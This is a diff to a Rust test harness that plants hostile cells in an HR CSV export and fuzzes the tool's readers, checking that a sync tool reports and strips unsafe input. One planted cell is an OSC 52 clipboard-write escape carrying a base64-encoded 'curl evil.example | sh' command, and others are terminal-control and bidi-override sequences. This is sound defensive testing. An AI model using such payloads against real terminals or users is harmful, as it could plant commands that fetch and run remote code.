@@ -5,6 +5,7 @@
 use std::io::{BufRead, BufReader, Read};
 use std::net::{TcpListener, TcpStream};
 use std::os::unix::fs::PermissionsExt;
+use std::panic::{AssertUnwindSafe, catch_unwind};
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
 use std::sync::atomic::{AtomicUsize, Ordering};
@@ -18,7 +19,10 @@ use peoplectl::graph::connections::NewConnection;
 use peoplectl::graph::retry::RetryPolicy;
 use peoplectl::graph::sources::NewProfileSource;
 use peoplectl::graph::{ApiVersion, GraphError, Timeouts, TransportOptions, build_http_client};
+use peoplectl::sync::InputFormat;
+use peoplectl::sync::reader::RowReader;
 use peoplectl::text::is_unsafe;
+use rand::{Rng, SeedableRng};
 use reqwest::Method;
 use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
 use serde_json::Value;
@@ -539,6 +543,331 @@ pub async fn console_under_tmux(bin: &Path) -> ConsoleOutcome {
     // The tenant serves the console until the walk is over.
     drop(t);
     outcome
+}
+
+// ---------------------------------------------------------------------------------------------
+// Hostile HR exports
+
+/// A hostile cell or row planted in a copy of the demo export.
+pub struct Planted {
+    pub what: &'static str,
+    pub line: u64,
+    /// The column the report must name, when the fault is one cell's.
+    pub column: Option<&'static str>,
+}
+
+/// The cells planted: (what, column, bytes). `None` as the column is a whole-row fault.
+fn plants() -> Vec<(&'static str, Option<&'static str>, Vec<u8>)> {
+    vec![
+        (
+            "an OSC 52 clipboard write",
+            Some("Job Title"),
+            b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07Engineer".to_vec(),
+        ),
+        (
+            "a screen clear",
+            Some("Department"),
+            b"Sales\x1b[2J\x1b[H".to_vec(),
+        ),
+        (
+            "a bidi override",
+            Some("Office"),
+            "\u{202e}4 gnidliuB - elttaeS".as_bytes().to_vec(),
+        ),
+        (
+            "a C1 CSI",
+            Some("Company"),
+            "Contoso\u{9b}31m Ltd.".as_bytes().to_vec(),
+        ),
+        (
+            "a zero-width space",
+            Some("Skills"),
+            "Rust;\u{200b}Go".as_bytes().to_vec(),
+        ),
+        ("a DEL", Some("Cost Center"), b"CC\x7f1000".to_vec()),
+        (
+            "invalid UTF-8",
+            Some("Job Title"),
+            b"Caf\xe9 manager".to_vec(),
+        ),
+        ("a NUL byte", Some("Mobile"), b"+1 206\x00555 0100".to_vec()),
+        ("a field missing", None, Vec::new()),
+        ("a 2 MiB field", None, vec![b'x'; 2 * 1024 * 1024]),
+    ]
+}
+
+pub struct ExportOutcome {
+    pub planted: Vec<Planted>,
+    /// Valid rows of the demo export as it is.
+    pub clean_valid: u64,
+    /// `sync -o json` of the hostile export, and its report.
+    pub json: Output,
+    pub report: Value,
+    /// The same as text (`--dry-run`, so nothing more is sent).
+    pub text: Output,
+    pub items: usize,
+    /// Items in Graph holding a character no terminal should get.
+    pub unsafe_items: Vec<String>,
+}
+
+impl ExportOutcome {
+    /// The report's issues about `line`, as (column, reason).
+    pub fn issues_at(&self, line: u64) -> Vec<(Option<String>, String)> {
+        self.report["errors"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .filter(|e| e["line"] == line)
+            .map(|e| {
+                (
+                    e["column"].as_str().map(str::to_owned),
+                    e["reason"].as_str().unwrap_or_default().to_owned(),
+                )
+            })
+            .collect()
+    }
+
+    /// Rows the hostile export's report counts valid.
+    pub fn valid(&self) -> u64 {
+        self.report["valid"].as_u64().unwrap_or(0)
+    }
+
+    /// Planted faults the report names at their line (and column, when they have one).
+    pub fn reported(&self) -> usize {
+        self.planted
+            .iter()
+            .filter(|p| {
+                self.issues_at(p.line)
+                    .iter()
+                    .any(|(column, _)| p.column.is_none() || column.as_deref() == p.column)
+            })
+            .count()
+    }
+}
+
+/// Strings anywhere in `value` holding an unsafe character.
+fn holds_unsafe(value: &Value) -> bool {
+    match value {
+        Value::String(s) => s.chars().any(is_unsafe),
+        Value::Array(a) => a.iter().any(holds_unsafe),
+        Value::Object(o) => o.values().any(holds_unsafe),
+        _ => false,
+    }
+}
+
+/// The 1-based line number of the line at `index`.
+fn line_number(index: usize) -> u64 {
+    u64::try_from(index + 1).unwrap()
+}
+
+/// The demo export with [`plants`] in rows that are otherwise good, synced for real to the
+/// demo tenant through the binary; then what Graph holds.
+pub async fn hostile_export(bin: &Path) -> ExportOutcome {
+    const CONN: &str = "contosohr";
+    let env = super::env(SeedKind::Demo).await;
+    let emulator = env.emu.env_lines();
+    let dirs = tempfile::tempdir().unwrap();
+    let root = env!("CARGO_MANIFEST_DIR");
+    let demo = format!("{root}/assets/demo/hr-export.csv");
+    let mapping = format!("{root}/assets/demo/hr-mapping.toml");
+    let sync = |input: &str, extra: &[&str]| {
+        let mut args = vec!["sync", CONN, "--input", input, "--mapping", &mapping];
+        args.extend(extra);
+        command(bin, dirs.path(), &args, &emulator)
+    };
+    // The demo's own bad rows, so that every plant goes into a row that is otherwise good.
+    let (clean, _) = timed(sync(&demo, &["--dry-run", "-o", "json"])).await;
+    let clean: Value = serde_json::from_slice(&clean.stdout).unwrap();
+    let clean_valid = clean["valid"].as_u64().unwrap();
+    let bad: Vec<u64> = clean["errors"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|e| e["line"].as_u64())
+        .collect();
+
+    let bytes = std::fs::read(&demo).unwrap();
+    let mut lines: Vec<Vec<u8>> = bytes.split(|b| *b == b'\n').map(<[u8]>::to_vec).collect();
+    let header: Vec<String> = String::from_utf8_lossy(&lines[0])
+        .split(',')
+        .map(str::to_owned)
+        .collect();
+    let mut planted = Vec::new();
+    // Simple rows only (no quoting), spread over the file.
+    let mut free = (10..lines.len())
+        .step_by(7)
+        .filter(|i| {
+            !bad.contains(&line_number(*i))
+                && !lines[*i].contains(&b'"')
+                && lines[*i].split(|b| *b == b',').count() == header.len()
+        })
+        .collect::<Vec<_>>()
+        .into_iter();
+    for (what, column, value) in plants() {
+        let i = free.next().expect("enough good rows to plant in");
+        let mut fields: Vec<Vec<u8>> = lines[i].split(|b| *b == b',').map(<[u8]>::to_vec).collect();
+        match column {
+            Some(name) => {
+                let at = header.iter().position(|h| h == name).unwrap();
+                fields[at] = value;
+            }
+            None if value.is_empty() => {
+                fields.pop();
+            }
+            None => {
+                let at = header.iter().position(|h| h == "Job Title").unwrap();
+                fields[at] = value;
+            }
+        }
+        lines[i] = fields.join(&b',');
+        planted.push(Planted {
+            what,
+            line: line_number(i),
+            column,
+        });
+    }
+    let input = dirs.path().join("hostile.csv");
+    std::fs::write(&input, lines.join(&b'\n')).unwrap();
+    let input = input.display().to_string();
+
+    let (json, _) = timed(sync(&input, &["-o", "json"])).await;
+    let report = serde_json::from_slice(&json.stdout).unwrap_or(Value::Null);
+    let (text, _) = timed(sync(&input, &["--dry-run"])).await;
+    let ids = env.emu.inspect().item_ids(CONN);
+    let unsafe_items = ids
+        .iter()
+        .filter(|id| {
+            env.emu
+                .inspect()
+                .item(CONN, id)
+                .is_some_and(|item| holds_unsafe(&item))
+        })
+        .cloned()
+        .collect();
+    ExportOutcome {
+        planted,
+        clean_valid,
+        json,
+        report,
+        text,
+        items: ids.len(),
+        unsafe_items,
+    }
+}
+
+/// What random inputs did to the CSV and JSON Lines readers.
+#[derive(Debug, Default, Clone, Copy)]
+pub struct FuzzOutcome {
+    /// Inputs, each read as CSV and as JSON Lines.
+    pub inputs: usize,
+    /// Inputs refused whole (no header, UTF-16, ...), by either reader.
+    pub refused: usize,
+    pub rows: u64,
+    pub bad_rows: u64,
+    pub panics: usize,
+    /// Rows or errors out of line order, errors without a reason, or more rows than bytes.
+    pub disorder: usize,
+}
+
+/// Bytes that make CSV interesting (quotes, commas, line breaks, a BOM, NUL, bytes that are
+/// not UTF-8), mixed with any byte at all.
+const ALPHABET: &[u8] = b"\",\r\nab \xEF\xBB\xBF\x00\xC3\xFF";
+
+fn fuzz_byte(rng: &mut rand::rngs::StdRng) -> u8 {
+    if rng.random_bool(0.8) {
+        ALPHABET[rng.random_range(0..ALPHABET.len())]
+    } else {
+        rng.random()
+    }
+}
+
+fn fuzz_input(rng: &mut rand::rngs::StdRng, demo: &[u8]) -> Vec<u8> {
+    if rng.random_bool(0.5) {
+        let len = rng.random_range(0..600);
+        (0..len).map(|_| fuzz_byte(rng)).collect()
+    } else {
+        // The start of a real export with a few bytes changed, put in or taken out.
+        let mut bytes = demo[..demo.len().min(2048)].to_vec();
+        for _ in 0..rng.random_range(1..8) {
+            let at = rng.random_range(0..bytes.len());
+            match rng.random_range(0..3) {
+                0 => bytes[at] = fuzz_byte(rng),
+                1 => bytes.insert(at, fuzz_byte(rng)),
+                _ => {
+                    bytes.remove(at);
+                }
+            }
+        }
+        bytes
+    }
+}
+
+/// Reads `bytes` to the end, checking order; `None` when refused whole.
+fn read_all(bytes: &[u8], format: InputFormat) -> Option<(u64, u64, usize)> {
+    let mut reader = RowReader::from_reader(
+        "fuzz".into(),
+        Box::new(std::io::Cursor::new(bytes.to_vec())),
+        format,
+    )
+    .ok()?;
+    let names: Vec<String> = reader
+        .header()
+        .map(|h| h.names().to_vec())
+        .unwrap_or_default();
+    let (mut rows, mut bad, mut disorder, mut last, mut steps) = (0, 0, 0, 0, 0);
+    loop {
+        steps += 1;
+        if steps > bytes.len() + 2 {
+            disorder += 1;
+            break;
+        }
+        match reader.next_row() {
+            Ok(None) | Err(_) => break,
+            Ok(Some(Ok(row))) => {
+                rows += 1;
+                disorder += usize::from(row.line() <= last);
+                last = row.line();
+                for name in &names {
+                    let _ = row.cell(name);
+                }
+            }
+            Ok(Some(Err(e))) => {
+                bad += 1;
+                disorder += usize::from(e.line <= last || e.reason.is_empty());
+                last = e.line;
+            }
+        }
+    }
+    Some((rows, bad, disorder))
+}
+
+/// `inputs` random inputs from `seed` through both readers, panics caught and counted.
+pub fn reader_fuzz(seed: u64, inputs: usize) -> FuzzOutcome {
+    let demo = std::fs::read(format!(
+        "{}/assets/demo/hr-export.csv",
+        env!("CARGO_MANIFEST_DIR")
+    ))
+    .unwrap();
+    let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
+    let mut o = FuzzOutcome {
+        inputs,
+        ..FuzzOutcome::default()
+    };
+    for _ in 0..inputs {
+        let bytes = fuzz_input(&mut rng, &demo);
+        for format in [InputFormat::Csv, InputFormat::JsonLines] {
+            match catch_unwind(AssertUnwindSafe(|| read_all(&bytes, format))) {
+                Err(_) => o.panics += 1,
+                Ok(None) => o.refused += 1,
+                Ok(Some((rows, bad, disorder))) => {
+                    o.rows += rows;
+                    o.bad_rows += bad;
+                    o.disorder += disorder;
+                }
+            }
+        }
+    }
+    o
 }
 
 // ---------------------------------------------------------------------------------------------
